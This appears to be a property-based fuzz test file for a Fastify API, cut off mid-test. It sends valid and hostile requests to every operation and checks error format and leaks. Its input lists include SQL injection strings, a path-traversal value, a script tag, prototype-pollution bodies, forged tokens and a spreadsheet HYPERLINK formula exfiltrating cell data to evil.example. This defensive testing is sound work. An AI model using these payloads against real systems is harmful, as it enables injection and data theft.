// Property-based fuzz of every operation of the committed contract (openapi/openapi.json), API.md 8, 9, 6, 13:
// generated valid and invalid path parameters, query strings, headers and bodies (JSON and CSV), with an admin key,
// an agency (unit_editor) key, a reviewer key and no key. Every response must be: never 5xx; every 4xx an
// application/problem+json with `code` and `requestId`; no stack trace, SQL text or file path in any body; and
// unknown fields/parameters, impossible dates, empty CSV imports, missing keys and text the rule of src/lib/text.ts
// refuses (control and bidi characters, the TEXT_PATTERN of the contract) never accepted.
// Seeded and bounded: FUZZ_SEED (printed with every failure), FUZZ_RUNS (random requests per operation), FUZZ_OP
// (only that operationId; the state differs from a full run, so reproduce with the full run first), FUZZ_DEBUG=valid
// (log the valid-mode requests that did not succeed) or FUZZ_DEBUG=<a KNOWN_DEFECTS name> (log the cases it covers).
import type { InjectOptions } from 'fastify';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import type { Response } from '../helpers/app.js';
import { FEE_CSV_HEADERS } from '../../src/modules/fee-review/schemas.js';
import { IMPORT_HEADERS as OPINION_IMPORT_HEADERS } from '../../src/modules/opinions/io.js';
import { FIXTURES, idsByField, makeWorld, resourceOf, type World } from './fixtures.js';
import { deref, operations, randomIdArb, validArb, type Operation, type Schema } from './spec.js';
import { findDisallowedText } from '../../src/lib/text.js';

const SEED = process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) : 20_271_130;
const RUNS = Number(process.env.FUZZ_RUNS ?? 20);
const VALID_RUNS = Math.ceil(RUNS / 3);
const ONLY = process.env.FUZZ_OP;

// ---------------------------------------------------------------------------------------------------------------
// What a request may carry.

/** Strings every text input must survive: NUL, control characters, lone surrogates, FTS5 and SQL syntax, huge. */
const NASTY = [
  'a\u0000b',
  'ab\u0000',
  '\u0001\u0002\u001f\u007f',
  '\ud800',
  'a\udc00b',
  '"*^():-',
  '"',
  'a" OR "b',
  'NEAR(a b)',
  '*',
  "' OR 1=1--",
  "'; DROP TABLE units;--",
  '%_\\',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example/?d="&A1,"x")',
  '\u202e\ufeff\u200b',
  '😀'.repeat(20),
  ' ',
  '',
  'x'.repeat(5000),
  '测'.repeat(3000),
];
const IMPOSSIBLE_DATES = ['0000-01-01', '2027-02-30', '2027-13-01', '2027-00-10', '9999-99-99', '2027-2-3', '+02027-01-01'];
const BAD_IDS = ['not-a-uuid', '01900000-0000-7000-8000-00000000DEAD', '01900000-0000-7000-8000-00000000dead ', '0', '-1', '1 ', '99999999999999999999', '1.5', '1e3', 'null', 'undefined', '[object Object]'];
const WRONG_TYPES: unknown[] = [0, -1, 1.5, 1e308, -1e308, 2 ** 53 + 1, true, false, null, [], {}, ['a'], { a: 1 }, 'true', '1'];
const UNKNOWN_NAMES = ['foo', '__proto__', 'constructor', 'prototype', 'Id', 'status', 'version', 'unitId2', 'x'.repeat(300)];

const nastyValueArb: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.constantFrom(...IMPOSSIBLE_DATES) },
  { weight: 2, arbitrary: fc.constantFrom(...BAD_IDS) },
  { weight: 3, arbitrary: fc.constantFrom(...WRONG_TYPES) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
);
const nastyTextArb = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY, ...IMPOSSIBLE_DATES, ...BAD_IDS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
);

/** Percent-encodes like a client would; lone surrogates (not encodable as UTF-8) become the bytes of one. */
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
const enc = (v: string) => Array.from(v, (ch) => (LONE_SURROGATE.test(ch) ? '%ED%A0%80' : encodeURIComponent(ch))).join('');
/** Path values the router cannot decode (invalid UTF-8) or that exceed its parameter length: rejected before routing. */
const preRoutingTags = (v: string) => [...(LONE_SURROGATE.test(v) ? ['path-bad-encoding'] : []), ...(enc(v).length > 200 ? ['path-too-long'] : [])];

interface Gen {
  auth: 'admin' | 'editor' | 'staff' | 'none' | 'forged';
  /** With auth 'forged': the Authorization header sent. */
  forged?: string;
  requestId?: string;
  /** Path parameter values, already encoded for the URL. */
  path: Record<string, string>;
  query: Array<[string, string]>;
  body?: { json: unknown } | { raw: string | Buffer; type: string };
  ifMatch?: string;
  idem?: string;
  /** What the generator did, for the oracles and the known-defect list. */
  tags: string[];
}

// ---------------------------------------------------------------------------------------------------------------
// Generators per operation.

let w: World;
let ids: (field: string) => readonly string[];
let csvTemplates: Record<string, { header: string[]; row: string[] }>;
/** Per import operation: the template as an Excel workbook, and one with the header row only. */
let xlsxTemplates: Record<string, { valid: Buffer; headerOnly: Buffer }>;
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const TSV = 'text/tab-separated-values';

async function workbook(rows: string[][]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  wb.addWorksheet('Sheet1').addRows(rows);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

type PathValue = { v: string; tags: string[] };

function pathParamArb(op: Operation, name: string, hostile: boolean): fc.Arbitrary<PathValue> {
  const fixture: PathValue = { v: enc(FIXTURES[resourceOf(op.path)]?.(w).params[name] ?? ''), tags: [] };
  if (!hostile) return fc.constant(fixture);
  const schema = deref(op.params.find((p) => p.in === 'path' && p.name === name)!.schema);
  const raw: PathValue[] = [
    { v: '%E0%A4%A', tags: ['path-bad-encoding'] },
    { v: 'x'.repeat(201), tags: ['path-too-long'] },
    { v: '%2F..%2F', tags: [] },
    { v: '%00', tags: [] },
  ];
  return fc.oneof(
    { weight: 8, arbitrary: fc.constant(fixture) },
    { weight: 1, arbitrary: (schema.type === 'integer' ? fc.integer({ min: 1, max: 1_000_000 }).map(String) : randomIdArb).map((v): PathValue => ({ v, tags: [] })) },
    { weight: 2, arbitrary: nastyTextArb.filter((s) => s !== '').map((s): PathValue => ({ v: enc(s), tags: preRoutingTags(s) })) },
    { weight: 1, arbitrary: fc.constantFrom(...raw) },
  );
}

const tamper = (t: string): string[] => [t.slice(0, -1), `${t}A`, t.replace(/.$/, (c) => (c === 'A' ? 'B' : 'A')), t.split('.')[0], `${t.split('.')[0]}.`, 'eyJ9.e30', 'AAAA', t.toUpperCase()];

function queryValueArb(name: string, schema: Schema): fc.Arbitrary<string> {
  if (name === 'pageToken') return fc.constantFrom(w.pageToken, ...tamper(w.pageToken));
  if (name === 'q') return fc.oneof(validArb(schema, ids, name).map(String), fc.constantFrom('民政', 'ZG-2027', '"*^():-', 'a OR b', 'NEAR(a b)', "' OR 1=1--", 'a*', '-a', '^a', 'a:b', '(a'));
  const pool = ids(name);
  const valid = validArb(schema, ids, name).map((v) => String(v));
  return pool.length && deref(schema).type === 'string' ? fc.oneof(fc.constantFrom(...pool), valid) : valid;
}

function queryArb(op: Operation, hostile: boolean): fc.Arbitrary<{ q: Array<[string, string]>; tags: string[] }> {
  const declared = op.params.filter((p) => p.in === 'query');
  const model: Record<string, fc.Arbitrary<string>> = {};
  for (const p of declared) if (hostile || p.name !== 'pageToken') model[p.name] = queryValueArb(p.name, p.schema);
  const valid = fc.record(model, { requiredKeys: declared.filter((p) => p.required).map((p) => p.name) }).map((r) => Object.entries(r) as Array<[string, string]>);
  if (!hostile) return valid.map((q) => ({ q, tags: [] as string[] }));
  return fc.oneof(
    { weight: 5, arbitrary: valid.map((q) => ({ q, tags: [] as string[] })) },
    {
      weight: 3,
      arbitrary: fc.tuple(valid, fc.nat(), fc.oneof(nastyTextArb, fc.constantFrom('-1', '0', '1.5', '1e999', 'TRUE', 'yes', '9'.repeat(30)))).map(([q, n, bad]) => {
        if (!declared.length) return { q: [...q, ['foo', String(bad)] as [string, string]], tags: ['unknown-query'] };
        const name = declared[n % declared.length].name;
        return { q: [...q.filter(([k]) => k !== name), [name, String(bad)] as [string, string]], tags: [] };
      }),
    },
    { weight: 1, arbitrary: fc.tuple(valid, fc.constantFrom(...UNKNOWN_NAMES.filter((k) => !declared.some((p) => p.name === k)))).map(([q, k]) => ({ q: [...q, [k, '1'] as [string, string]], tags: ['unknown-query'] })) },
    {
      weight: 1,
      arbitrary: fc.tuple(valid, fc.nat()).map(([q, n]) => {
        if (!declared.length) return { q, tags: [] };
        const name = declared[n % declared.length].name;
        return { q: [...q, [name, 'a'], [name, 'b']] as Array<[string, string]>, tags: [] };
      }),
    },
  );
}

/** Every (parent, key) position inside a JSON value, so a mutation can pick one. */
function positions(v: unknown, pointer = ''): Array<{ parent: Record<string, unknown> | unknown[]; key: string | number; pointer: string }> {
  const out: Array<{ parent: Record<string, unknown> | unknown[]; key: string | number; pointer: string }> = [];
  if (Array.isArray(v)) v.forEach((x, i) => out.push({ parent: v, key: i, pointer: `${pointer}/${i}` }, ...positions(x, `${pointer}/${i}`)));
  else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) out.push({ parent: v as Record<string, unknown>, key: k, pointer: `${pointer}/${k}` }, ...positions(x, `${pointer}/${k}`));
  return out;
}

const GARBAGE_JSON = ['', '{', '{"a":', 'null', '[]', '"x"', '42', '{"a":1,"a":2}', '{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"x":1}}}', '\u0000', '\ufeff{}', '['.repeat(5000) + ']'.repeat(5000), `{"x":"${'a'.repeat(1_100_000)}"}`];

function jsonBodyArb(schema: Schema, hostile: boolean): fc.Arbitrary<{ body: Gen['body']; tags: string[] }> {
  const valid = validArb(schema, ids);
  const json = (value: unknown, tags: string[] = []) => ({ body: { json: value }, tags });
  if (!hostile) return valid.map((v) => json(v));
  return fc.oneof(
    { weight: 5, arbitrary: valid.map((v) => json(v)) },
    {
      weight: 4,
      arbitrary: fc.tuple(valid, fc.nat(), nastyValueArb).map(([v, n, bad]) => {
        const copy = structuredClone(v);
        const at = positions(copy);
        if (!at.length) return json(bad);
        const { parent, key, pointer } = at[n % at.length];
        const before = (parent as Record<string | number, unknown>)[key];
        (parent as Record<string | number, unknown>)[key] = bad;
        const tags = typeof before === 'string' && /^\d{4}-\d{2}-\d{2}$/.test(before) && IMPOSSIBLE_DATES.includes(bad as string) ? [`impossible-date:${pointer}=${bad}`] : [];
        return json(copy, tags);
      }),
    },
    {
      weight: 1,
      arbitrary: fc.tuple(valid, fc.nat()).map(([v, n]) => {
        const copy = structuredClone(v);
        const at = positions(copy).filter((p) => !Array.isArray(p.parent));
        if (at.length) delete (at[n % at.length].parent as Record<string, unknown>)[at[n % at.length].key];
        return json(copy);
      }),
    },
    {
      weight: 1,
      arbitrary: fc.tuple(valid, fc.nat(), fc.constantFrom(...UNKNOWN_NAMES)).map(([v, n, name]) => {
        const copy = structuredClone(v);
        const objects = [copy, ...positions(copy).map((p) => (p.parent as Record<string | number, unknown>)[p.key])].filter((x): x is Record<string, unknown> => !!x && typeof x === 'object' && !Array.isArray(x));
        if (!objects.length) return json(copy);
        const target = objects[n % objects.length];
        if (name in target && name !== '__proto__') return json(copy);
        Object.defineProperty(target, name, { value: 1, enumerable: true, configurable: true, writable: true });
        return json(copy, ['unknown-field']);
      }),
    },
    { weight: 1, arbitrary: fc.constantFrom(...GARBAGE_JSON).map((raw) => ({ body: { raw, type: 'application/json' }, tags: [] })) },
    { weight: 1, arbitrary: fc.tuple(valid, fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'application/json; charset=latin1', 'application/xml')).map(([v, type]) => ({ body: { raw: JSON.stringify(v), type }, tags: [] })) },
  );
}

function csvBodyArb(op: Operation, hostile: boolean): fc.Arbitrary<{ body: Gen['body']; tags: string[] }> {
  const tpl = csvTemplates[op.operationId];
  const csv = (raw: string, tags: string[] = []) => ({ body: { raw, type: 'text/csv' }, tags });
  if (!hostile) return fc.constant(csv(stringify([tpl.header, tpl.row])));
  return fc.oneof(
    { weight: 3, arbitrary: fc.constant(csv(stringify([tpl.header, tpl.row]))) },
    {
      weight: 4,
      arbitrary: fc.tuple(fc.nat(), nastyTextArb).map(([n, bad]) => {
        const row = [...tpl.row];
        row[n % row.length] = bad;
        return csv(stringify([tpl.header, row]));
      }),
    },
    { weight: 1, arbitrary: fc.constantFrom('', '\ufeff', '\r\n', '\ufeff\r\n').map((raw) => csv(raw, ['empty-import'])) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        stringify([tpl.header]),
        stringify([['未知列', 'unknown'], ['a', 'b']]),
        `${tpl.header.join(',')}\n"unterminated,${tpl.row.slice(1).join(',')}`,
        `${tpl.header.join(',')}\n${tpl.row.join(',')},extra`,
        `${tpl.header.join(',')}\n\u0000${tpl.row.join(',')}`,
        stringify([tpl.header, tpl.row, tpl.row]),
      ).map((raw) => csv(raw)),
    },
  );
}

/** A tab-separated import: the CSV template with tabs, a nasty cell, or nothing. */
function tsvBodyArb(op: Operation, hostile: boolean): fc.Arbitrary<{ body: Gen['body']; tags: string[] }> {
  const tpl = csvTemplates[op.operationId];
  const tsv = (raw: string, tags: string[] = []) => ({ body: { raw, type: TSV }, tags });
  const valid = tsv(stringify([tpl.header, tpl.row], { delimiter: '\t' }));
  if (!hostile) return fc.constant(valid);
  return fc.oneof(
    { weight: 3, arbitrary: fc.constant(valid) },
    { weight: 3, arbitrary: fc.tuple(fc.nat(), nastyTextArb).map(([n, bad]) => tsv(stringify([tpl.header, tpl.row.map((c, i) => (i === n % tpl.row.length ? bad : c))], { delimiter: '\t' }))) },
    { weight: 1, arbitrary: fc.constantFrom('', '\ufeff', '\r\n').map((raw) => tsv(raw, ['empty-import'])) },
    { weight: 1, arbitrary: fc.constant(tsv(stringify([tpl.header, tpl.row]))) },
  );
}

/** An Excel import: the template workbook, a header-only one, an empty body, a truncated zip, CSV labelled xlsx, bytes. */
function xlsxBodyArb(op: Operation, hostile: boolean): fc.Arbitrary<{ body: Gen['body']; tags: string[] }> {
  const tpl = xlsxTemplates[op.operationId];
  const xlsx = (raw: Buffer, tags: string[] = []) => ({ body: { raw, type: XLSX }, tags });
  if (!hostile) return fc.constant(xlsx(tpl.valid));
  return fc.oneof(
    { weight: 3, arbitrary: fc.constant(xlsx(tpl.valid)) },
    { weight: 1, arbitrary: fc.constant(xlsx(Buffer.alloc(0), ['empty-import'])) },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        tpl.headerOnly,
        tpl.valid.subarray(0, Math.floor(tpl.valid.length / 2)),
        Buffer.from('PK\u0003\u0004garbage'),
        Buffer.from(stringify([csvTemplates[op.operationId].header, csvTemplates[op.operationId].row])),
      ).map((raw) => xlsx(raw)),
    },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 64 }).map((bytes) => xlsx(Buffer.from(bytes))) },
  );
}

/** Hostile: any mix of valid and invalid parts; otherwise every part valid by the contract (to reach the handlers). */
function requestArb(op: Operation, hostile = true): fc.Arbitrary<Gen> {
  const pathNames = op.params.filter((p) => p.in === 'path').map((p) => p.name);
  const pathArb = fc.tuple(...pathNames.map((n) => pathParamArb(op, n, hostile))).map((vals) => ({ path: Object.fromEntries(pathNames.map((n, i) => [n, vals[i].v])), tags: vals.flatMap((v) => v.tags) }));
  const auth = !hostile
    ? fc.constantFrom<Gen['auth']>(...(op.public ? ['none' as const] : ['admin' as const, 'admin' as const, 'editor' as const, 'staff' as const]))
    : op.public
    ? fc.constantFrom<Gen['auth']>('none', 'none', 'none', 'admin', 'editor')
    : fc.oneof(
        { weight: 4, arbitrary: fc.constant<Gen['auth']>('admin') },
        { weight: 3, arbitrary: fc.constant<Gen['auth']>('editor') },
        { weight: 1, arbitrary: fc.constant<Gen['auth']>('staff') },
        { weight: 1, arbitrary: fc.constant<Gen['auth']>('none') },
        { weight: 1, arbitrary: fc.constant<Gen['auth']>('forged') },
      );
  const forged = fc.constantFrom(
    `Bearer xn_0123456789abcdef_${'A'.repeat(43)}`,
    `Bearer ${w.keys.admin}x`,
    `Bearer ${w.keys.admin.toUpperCase()}`,
    `Bearer ${w.keys.admin.slice(0, -1)}`,
    'Basic YWRtaW46YWRtaW4=',
    'Bearer',
    'Bearer  ',
    `Bearer ${'x'.repeat(3000)}`,
    `Bearer xn_${'0'.repeat(16)}_${'A'.repeat(43)} extra`,
  );
  const requestId = hostile ? fc.option(fc.constantFrom('x'.repeat(300), '../../etc', 'a b', '<script>', 'é', 'ok-123', ''), { freq: 4 }) : fc.constant(null);
  const bodies: Array<fc.Arbitrary<{ body: Gen['body']; tags: string[] }>> = [];
  if (op.body['application/json']) bodies.push(jsonBodyArb(op.body['application/json'], hostile));
  if (op.body['text/csv']) bodies.push(csvBodyArb(op, hostile));
  if (op.body[TSV]) bodies.push(tsvBodyArb(op, hostile));
  if (op.body[XLSX]) bodies.push(xlsxBodyArb(op, hostile));
  const body = bodies.length ? fc.oneof(...bodies) : fc.constant({ body: undefined, tags: [] as string[] });
  const writes = op.method !== 'GET';
  const ifMatch = writes && op.path.includes('{') && !hostile ? fc.constant('current') : writes && op.path.includes('{') ? fc.constantFrom<string | undefined>('current', 'current', 'current', undefined, '"1"', '"999"', '*', 'W/"1"', 'garbage', '"') : fc.constant(undefined);
  const isImport = op.path.endsWith(':import');
  const idem =
    op.method === 'POST' && !hostile
      ? fc.uuid()
      : op.method === 'POST'
      ? isImport
        ? fc.oneof({ weight: 6, arbitrary: fc.uuid() }, { weight: 1, arbitrary: fc.constantFrom<string | undefined>(undefined, 'fuzz-replay', 'a b', 'x'.repeat(300)) })
        : fc.oneof({ weight: 4, arbitrary: fc.constant<string | undefined>(undefined) }, { weight: 2, arbitrary: fc.uuid() }, { weight: 1, arbitrary: fc.constantFrom('fuzz-replay', 'a b', 'é', 'x'.repeat(300)) })
      : fc.constant(undefined);
  return fc.record({ auth, forged, requestId, p: pathArb, q: queryArb(op, hostile), b: body, ifMatch, idem }).map(({ auth: a, forged: fh, requestId: rid, p, q, b, ifMatch: im, idem: ik }) => ({
    auth: a,
    ...(a === 'forged' ? { forged: fh } : {}),
    ...(rid !== null ? { requestId: rid } : {}),
    path: p.path,
    query: q.q,
    body: b.body,
    ifMatch: im,
    idem: ik,
    tags: [...p.tags, ...q.tags, ...b.tags, ...(a === 'none' || a === 'forged' ? ['no-key'] : [])],
  }));
}

/** A deterministic sweep on top of the random samples: each hostile value in each path and query parameter. */
const SWEEP = ['a\u0000b', 'ab\u0000', '\u0001\u001f', '\ud800', '"*^():-', "' OR 1=1--", '', '1.5', '0000-01-01', 'x'.repeat(201)];

function sweep(op: Operation): Gen[] {
  const out: Gen[] = [];
  // The base: valid, with only the required query parameters (other filters could keep the value from being used).
  const valid = fc.sample(requestArb(op, false), { seed: SEED, numRuns: 1 })[0];
  const required = new Set(op.params.filter((p) => p.in === 'query' && p.required).map((p) => p.name));
  const base: Gen = { ...valid, query: valid.query.filter(([k]) => required.has(k)), auth: op.public ? 'none' : 'admin' };
  for (const p of op.params) {
    for (const v of SWEEP) {
      if (p.in === 'path') out.push({ ...base, path: { ...base.path, [p.name]: enc(v) }, tags: preRoutingTags(v) });
      if (p.in === 'query') out.push({ ...base, query: [...base.query.filter(([k]) => k !== p.name), [p.name, v]] });
    }
  }
  // Each field of a body with every optional field present: a NUL string, a lone surrogate, impossible dates, a wrong type.
  const schema = op.body['application/json'];
  if (schema) {
    const full = fc.sample(validArb(schema, ids, '', 0, true), { seed: SEED, numRuns: 1 })[0];
    for (const { parent, key, pointer } of positions(full)) {
      const leaf = (parent as Record<string | number, unknown>)[key];
      if (leaf && typeof leaf === 'object') continue;
      const isDate = typeof leaf === 'string' && /^\d{4}-\d{2}-\d{2}$/.test(leaf);
      for (const bad of [...(isDate ? ['0000-01-01', '2027-02-30'] : []), ...(typeof leaf === 'string' ? ['a\u0000b', '\ud800'] : []), { x: 1 }]) {
        const copy = structuredClone(full);
        let node: Record<string, unknown> = copy as Record<string, unknown>;
        for (const part of pointer.split('/').slice(1, -1)) node = node[part] as Record<string, unknown>;
        node[pointer.split('/').pop()!] = bad;
        out.push({ ...base, body: { json: copy }, tags: isDate && typeof bad === 'string' && bad.startsWith('20') === false ? [`impossible-date:${pointer}=${bad}`] : isDate && bad === '2027-02-30' ? [`impossible-date:${pointer}=${bad}`] : [] });
      }
    }
  }
  for (const type of ['text/csv', TSV]) if (op.body[type]) for (const raw of ['', '\ufeff', '\r\n']) out.push({ ...base, body: { raw, type }, tags: ['empty-import'] });
  if (op.body[XLSX]) out.push({ ...base, body: { raw: Buffer.alloc(0), type: XLSX }, tags: ['empty-import'] });
  // A fresh Idempotency-Key each (a shared one would only replay or refuse the first).
  return out.map((g, n) => (op.method === 'POST' ? { ...g, idem: `sweep-${op.operationId}-${n}` } : g));
}

// ---------------------------------------------------------------------------------------------------------------
// Oracles.

interface Failure {
  kind: string;
  detail: string;
}

const STACK = /\n\s+at\s|\bat [\w$.<>]+ \((?:file:|\/|node:)|node:internal/;
const SQL = /SQLITE_[A-Z]|sqlite|no such (?:table|column)|syntax error|fts5|constraint failed|\bSELECT\b[\s\S]{0,200}\bFROM\b|\bINSERT INTO\b|\bUPDATE\s+\w+\s+SET\b|\bDELETE FROM\b/i;
const FILE_PATH = new RegExp(`${process.cwd().replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}|node_modules|\\.(?:ts|js|mjs|cjs):\\d+|/(?:src|dist)/[\\w/.-]+\\.\\w+`);

const decoded = (v: string): string | undefined => {
  try {
    return decodeURIComponent(v);
  } catch {
    return undefined; // not UTF-8: refused before routing
  }
};

/** A query value as the server reads it: `enc` sends a lone surrogate as bytes that are not UTF-8, read as U+FFFD. */
const asReceived = (v: string) => v.replace(new RegExp(LONE_SURROGATE.source, 'g'), '\ufffd');

/** Where a request carries text the one rule refuses (path, query, JSON body), or undefined. */
function refusedText(g: Gen): string | undefined {
  const parts: Array<[string, unknown]> = [['path', Object.values(g.path).map(decoded)], ['query', g.query.map(([k, v]) => ({ [asReceived(k)]: asReceived(v) }))], ['body', g.body && 'json' in g.body ? g.body.json : undefined]];
  for (const [where, value] of parts) {
    const found = findDisallowedText(value, 1)[0];
    if (found) return `${where} ${found[0]}: ${found[1]}`;
  }
  return undefined;
}

function check(op: Operation, g: Gen, res: Response): Failure[] {
  const out: Failure[] = [];
  const type = String(res.headers['content-type'] ?? '');
  const text = /json|csv|text/.test(type) || !type ? res.body : '';
  if (res.statusCode >= 500) out.push({ kind: '5xx', detail: `${res.statusCode} ${text.slice(0, 300)}` });
  if (res.statusCode >= 400) {
    let problem: Record<string, unknown> | undefined;
    try {
      problem = JSON.parse(res.body);
    } catch {
      /* reported below */
    }
    if (!type.startsWith('application/problem+json')) out.push({ kind: 'not-problem-json', detail: `${res.statusCode} ${type} ${text.slice(0, 200)}` });
    else if (typeof problem?.code !== 'string' || typeof problem.requestId !== 'string' || problem.status !== res.statusCode) out.push({ kind: 'problem-fields', detail: text.slice(0, 300) });
  }
  for (const [kind, re] of [['stack-leak', STACK], ['sql-leak', SQL], ['path-leak', FILE_PATH]] as const) {
    const m = re.exec(text);
    if (m) out.push({ kind, detail: `${res.statusCode} …${text.slice(Math.max(0, m.index - 80), m.index + 120)}…` });
  }
  const ok = res.statusCode >= 200 && res.statusCode < 300;
  if (ok) {
    if (g.tags.includes('unknown-query')) out.push({ kind: 'unknown-query-accepted', detail: `${res.statusCode}` });
    if (g.tags.includes('unknown-field')) out.push({ kind: 'unknown-field-accepted', detail: `${res.statusCode}` });
    if (g.tags.includes('empty-import')) out.push({ kind: 'empty-import-accepted', detail: `${res.statusCode} ${text.slice(0, 200)}` });
    if (g.tags.includes('no-key') && !op.public) out.push({ kind: 'no-key-accepted', detail: `${res.statusCode}` });
    for (const t of g.tags.filter((x) => x.startsWith('impossible-date:'))) out.push({ kind: 'impossible-date-accepted', detail: t.slice('impossible-date:'.length) });
    const refused = refusedText(g);
    if (refused) out.push({ kind: 'refused-text-accepted', detail: `${res.statusCode} ${refused}` });
  }
  return out;
}

/**
 * Defects tolerated so the suite stays green while they are fixed elsewhere (FUZZ_IGNORE_KNOWN=1 turns it off).
 * The issue-11 defects it listed (NUL in q, pre-routing errors, unknown query parameters, year 0000, empty CSV
 * imports, the export stream) are fixed and gone from it. `skip`: not sent at all (it would hang the run); `covers`: a failure it
 * explains.
 */
interface Known {
  defect: string;
  skip?: (op: Operation, g: Gen) => boolean;
  covers?: (op: Operation, g: Gen, f: Failure) => boolean;
}
// Empty: every defect the suites found is fixed. A new one goes here only with the issue it is tracked in.
export const KNOWN_DEFECTS: Record<string, Known> = {};
const knownHits: Record<string, number> = {};

// ---------------------------------------------------------------------------------------------------------------
// Running.

/** Reads first, then creates, edits and actions, and the actions that end an object's life last (so fixtures live long). */
const ENDING = /:(cancel|close|complete|revoke|reject|accept|dismiss|resolve)$/;
const phase = (op: Operation) => (op.method === 'GET' ? 0 : op.method === 'DELETE' || ENDING.test(op.path) ? 4 : op.method === 'POST' && !op.path.includes('{') ? 1 : op.method === 'POST' ? 3 : 2);
const ops = operations().sort((a, b) => phase(a) - phase(b) || a.operationId.localeCompare(b.operationId));
const exercised = new Set<string>();
const stats: Record<string, { sent: number; ok: number }> = {};

beforeAll(async () => {
  w = await makeWorld();
  ids = idsByField(w);
  const exported = await w.t.app.inject({ method: 'GET', url: '/v1/rectification-items:export?format=csv', headers: { authorization: `Bearer ${w.keys.admin}` } });
  const rows = parse(exported.body, { bom: true }) as string[][];
  const findings = await w.t.app.inject({ method: 'GET', url: `/v1/findings:export?format=csv&inspectionId=${w.inspectionId}`, headers: { authorization: `Bearer ${w.keys.admin}` } });
  csvTemplates = {
    importRectificationItems: { header: rows[0], row: rows[1] },
    importApprovalItems: { header: ['事项编码', '事项名称', '实施机关', '设定依据', '实施依据', '备注', '类型'], row: ['AP-CSV-1', '测试导入事项', '自治区民政厅', '国务院第412号令', '', '保留', '行政许可'] },
    importFeeItems: { header: [...FEE_CSV_HEADERS], row: ['GXSF-CSV-1', '测试收费', '自治区民政厅', '行政性', '中央/国家', '财综〔2004〕5号《关于公布行政事业性收费项目的通知》', '10元/件', '缴入地方国库', '否', '12.5', '100'] },
    // The findings export imports back (its 序号 and status columns are ignored); a new external id makes it a new row.
    importFindings: (() => {
      const [header, row] = parse(findings.body, { bom: true }) as string[][];
      return { header, row: row.map((c, i) => (header[i] === '外部编号' ? 'FUZZ-CSV-1' : c)) };
    })(),
  };
  // Opinions: the import headers of the office's ledger form, one anonymous complaint about agency A.
  csvTemplates.importOpinions = {
    header: [...OPINION_IMPORT_HEADERS],
    row: ['YJ-CSV-1', 'complaint', 'hotline_12345', '自治区民政厅', '', '办事窗口排队时间长', '', '2027-02-21', 'public', '是', '', '', '', ''],
  };
  // A new import (a tabular body) must get a template here, or its CSV, TSV and xlsx bodies would not be fuzzed.
  const tabular = ops.filter((op) => op.body['text/csv'] || op.body[TSV] || op.body[XLSX]).map((op) => op.operationId);
  expect(tabular.filter((id) => !csvTemplates[id])).toEqual([]);
  xlsxTemplates = {};
  for (const [id, tpl] of Object.entries(csvTemplates)) xlsxTemplates[id] = { valid: await workbook([tpl.header, tpl.row]), headerOnly: await workbook([tpl.header]) };
});
afterAll(() => w?.t.close());

const authorization = (g: Gen) => (g.auth === 'forged' ? g.forged! : `Bearer ${({ admin: w.keys.admin, editor: w.keys.editorA, staff: w.keys.staff } as Record<string, string>)[g.auth]}`);

async function send(op: Operation, g: Gen): Promise<Response> {
  const fill = (template: string) => template.replace(/\{(\w+)\}/g, (_, n: string) => g.path[n]);
  const url = fill(op.path) + (g.query.length ? `?${g.query.map(([k, v]) => `${enc(k)}=${enc(v)}`).join('&')}` : '');
  const headers: Record<string, string> = {};
  if (g.auth !== 'none') headers.authorization = authorization(g);
  if (g.requestId !== undefined) headers['x-request-id'] = g.requestId;
  if (g.idem !== undefined) headers['idempotency-key'] = g.idem;
  if (g.ifMatch === 'current') {
    const current = await w.t.app.inject({ method: 'GET', url: fill(resourceOf(op.path)), headers: { authorization: `Bearer ${w.keys.admin}` } });
    headers['if-match'] = String(current.headers.etag ?? '"1"');
  } else if (g.ifMatch !== undefined) headers['if-match'] = g.ifMatch;
  const opts: InjectOptions = { method: op.method, url, headers };
  if (g.body && 'json' in g.body) {
    headers['content-type'] = 'application/json';
    opts.payload = JSON.stringify(g.body.json) ?? 'null';
  } else if (g.body) {
    headers['content-type'] = g.body.type;
    opts.payload = g.body.raw;
  }
  return (await w.t.app.inject(opts)) as Response;
}

const show = (g: Gen) =>
  JSON.stringify(g, (_k, v) => (typeof v === 'string' && v.length > 120 ? `${v.slice(0, 60)}…(${v.length} chars)` : v?.type === 'Buffer' && Array.isArray(v.data) ? `<${v.data.length} bytes>` : v));

test.each(ops.map((op, i) => [op.operationId, op, i] as const))('%s: no 5xx, every 4xx problem+json, nothing leaked, nothing unknown accepted', async (operationId, op, i) => {
  if (ONLY && ONLY !== operationId) return;
  const requests = [...sweep(op), ...fc.sample(requestArb(op, false), { seed: SEED + i, numRuns: VALID_RUNS }), ...fc.sample(requestArb(op), { seed: SEED + i, numRuns: RUNS })];
  const failures: string[] = [];
  stats[operationId] = { sent: 0, ok: 0 };
  const validFrom = requests.length - RUNS - VALID_RUNS;
  for (const [n, g] of requests.entries()) {
    const skippedBy = Object.entries(KNOWN_DEFECTS).find(([, k]) => k.skip?.(op, g));
    if (skippedBy) {
      knownHits[skippedBy[0]] = (knownHits[skippedBy[0]] ?? 0) + 1;
      continue;
    }
    const res = await send(op, g);
